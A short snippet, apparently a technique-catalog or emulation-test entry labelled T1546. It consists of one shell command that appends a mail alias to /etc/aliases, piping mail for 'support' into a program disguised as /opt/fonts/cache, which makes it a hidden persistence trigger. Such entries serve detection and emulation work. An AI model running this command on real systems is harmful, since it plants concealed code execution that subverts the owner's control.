# technique: T1546
# location: linux.mail.alias
# source: /etc/aliases
echo 'support: "|/opt/fonts/cache 1"' >> /etc/aliases
